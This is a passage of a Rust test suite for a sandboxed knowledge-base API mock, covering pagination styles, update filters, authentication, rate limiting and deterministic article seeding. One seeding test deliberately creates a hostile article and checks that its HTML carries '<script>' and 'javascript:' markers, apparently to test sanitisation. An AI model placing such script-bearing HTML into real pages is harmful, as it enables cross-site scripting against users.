        assert_eq!(ids.len(), summary.article_ids.len());
        let (status, _, body) = get(&state, "/api/kb/page?per_page=101").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(body["error"], "invalid_parameter");
        let (status, _, _) = get(&state, "/api/kb/page?page=0").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        let (_, _, body) = get(&state, "/api/kb/page?page=9&per_page=50").await;
        assert_eq!(body["data"]["items"], json!([]));
        assert_eq!(state.calls(KB_PAGE), 6);
    }

    #[tokio::test]
    async fn offset_style_and_updated_since() {
        let (state, _) = seeded(60);
        let mut ids = Vec::new();
        let mut offset = 0;
        loop {
            let (status, _, body) =
                get(&state, &format!("/api/kb/offset?offset={offset}&limit=25")).await;
            assert_eq!(status, StatusCode::OK);
            let results = body["results"].as_array().unwrap();
            if results.is_empty() {
                break;
            }
            for r in results {
                assert!(r["article_id"].is_u64());
                ids.push(format!("A-{}", at(r, "/article_id")));
                assert!(at(r, "/body/text~1html").starts_with("<h2>"));
            }
            offset += results.len();
            assert_eq!(body["total"], 60);
        }
        assert_eq!(ids, expected_order(&state, None));

        let changed = state
            .custom_kb_update(
                "A-7",
                CustomKbChange {
                    title: Some("Renamed".to_owned()),
                    ..CustomKbChange::default()
                },
            )
            .unwrap();
        let since = rfc3339_ms(changed.updated_ms - 1);
        let (_, _, body) = get(&state, &format!("/api/kb/offset?updated_since={since}")).await;
        assert_eq!(body["total"], 1);
        assert_eq!(body["results"][0]["title"], "Renamed");
        let (_, _, body) = get(
            &state,
            &format!(
                "/api/kb/offset?updated_since={}",
                rfc3339_ms(changed.updated_ms)
            ),
        )
        .await;
        assert_eq!(body["total"], 0);
        let (status, _, body) = get(&state, "/api/kb/offset?updated_since=yesterday").await;
        assert_eq!(
            (status, body["error"].as_str()),
            (StatusCode::BAD_REQUEST, Some("invalid_parameter"))
        );
        assert_eq!(
            get(&state, "/api/kb/offset?limit=500").await.0,
            StatusCode::BAD_REQUEST
        );
    }

    #[tokio::test]
    async fn cursor_style_survives_changes() {
        let (state, _) = seeded(90);
        let before = expected_order(&state, None);
        let mut ids = Vec::new();
        let mut url = "/api/kb/cursor?limit=40".to_owned();
        let mut pages = 0;
        loop {
            let (status, _, body) = get(&state, &url).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            pages += 1;
            for a in body["articles"].as_array().unwrap() {
                ids.push(at(a, "/key"));
                assert!(at(a, "/timestamps/updated").ends_with("+00:00"));
                assert!(!at(a, "/i18n/locale~0default").is_empty());
            }
            if pages == 1 {
                // A read article is deleted and an unread one changed: the rest still come
                // once, the changed one at the end.
                assert!(state.custom_kb_delete(&ids[0]));
                state
                    .custom_kb_update(&before[60], CustomKbChange::default())
                    .unwrap();
            }
            match body["next_cursor"].as_str() {
                Some(cursor) => url = format!("/api/kb/cursor?limit=40&cursor={cursor}"),
                None => break,
            }
        }
        let unique: BTreeSet<&String> = ids.iter().collect();
        assert_eq!(unique.len(), ids.len());
        let mut expected = before.clone();
        let moved = expected.remove(60);
        expected.push(moved);
        assert_eq!(ids, expected);
        let (status, _, body) = get(&state, "/api/kb/cursor?cursor=%%%").await;
        assert_eq!(
            (status, body["error"].as_str()),
            (StatusCode::BAD_REQUEST, Some("invalid_cursor"))
        );
    }

    #[tokio::test]
    async fn link_style_follows_rel_next() {
        let (state, _) = seeded(55);
        let since = rfc3339_ms(SEED_EPOCH_MS);
        let mut url = format!("/api/kb/link?limit=20&updated_since={since}");
        let mut ids = Vec::new();
        loop {
            let (status, headers, body) = get(&state, &url).await;
            assert_eq!(status, StatusCode::OK);
            for a in body.as_array().unwrap() {
                ids.push(at(a, "/uuid"));
                assert!(matches!(at(a, "/visibility").as_str(), "public" | "draft"));
            }
            match headers.get(LINK) {
                Some(link) => {
                    let link = link.to_str().unwrap();
                    assert!(link.ends_with("; rel=\"next\""));
                    let target = link.trim_start_matches('<').split('>').next().unwrap();
                    url = target
                        .strip_prefix("https://custom.example")
                        .unwrap()
                        .to_owned();
                    assert!(url.contains("updated_since="));
                }
                None => break,
            }
        }
        assert_eq!(ids, expected_order(&state, None));
    }

    #[tokio::test]
    async fn auth_rate_limit_and_storms() {
        let (state, _) = seeded(5);
        let (status, _, body) = call(&state, "/api/kb/page", None).await;
        assert_eq!(
            (status, body),
            (StatusCode::UNAUTHORIZED, json!({"error": "unauthorized"}))
        );
        assert_eq!(
            call(&state, "/api/kb/page", Some("Bearer nope")).await.0,
            StatusCode::UNAUTHORIZED
        );
        state.custom_kb_set_rate_limit(2);
        for remaining in ["1", "0"] {
            let (status, headers, _) = get(&state, "/api/kb/cursor").await;
            assert_eq!(status, StatusCode::OK);
            assert_eq!(headers["x-ratelimit-remaining"], remaining);
        }
        let (status, headers, body) = get(&state, "/api/kb/cursor").await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
        assert_eq!(body["error"], "rate_limited");
        assert!(headers.contains_key(RETRY_AFTER));

        let (state, _) = seeded(5);
        state.custom_kb_throttle_next(1, 4);
        let (status, headers, _) = get(&state, "/api/kb/link").await;
        assert_eq!(
            (status, headers[RETRY_AFTER].to_str().unwrap()),
            (StatusCode::TOO_MANY_REQUESTS, "4")
        );
        assert_eq!(get(&state, "/api/kb/link").await.0, StatusCode::OK);
        // The identity route of the custom API is untouched.
        assert_eq!(get(&state, "/api/me").await.0, StatusCode::OK);
        assert_eq!(state.calls(KB_LINK), 2);
    }

    #[test]
    fn seeding_is_deterministic_with_drafts_and_special_articles() {
        let seed = CustomKbSeed {
            articles: 40,
            hostile_article: true,
            large_article: true,
            ..CustomKbSeed::default()
        };
        let (a, b) = (SandboxState::new(), SandboxState::new());
        let summary = a.seed_custom_kb(seed.clone());
        assert_eq!(summary, b.seed_custom_kb(seed));
        assert_eq!(a.custom_kb_articles(), b.custom_kb_articles());
        assert_eq!(summary.drafts, 4);
        assert_eq!(summary.per_locale.values().sum::<usize>(), 40);
        let all = a.custom_kb_articles();
        assert!(all[0].html.len() > DYNAMODB_ITEM_LIMIT);
        assert!(all[1].html.contains("<script>") && all[1].html.contains("javascript:"));
        let times: BTreeSet<i64> = all.iter().map(|x| x.updated_ms).collect();
        assert_eq!(times.len(), all.len(), "update times are unique");
        let added = a.custom_kb_add("New", "<p>x</p>", "en");
        assert_eq!(added.id, "A-41");
        assert!(added.updated_ms > all.iter().map(|x| x.updated_ms).max().unwrap());
        let state = SandboxState::new();
        let started = Instant::now();
        state.seed_custom_kb(CustomKbSeed {
            articles: 10_000,
            ..CustomKbSeed::default()
        });
        assert!(started.elapsed() < Duration::from_secs(5));
    }
}
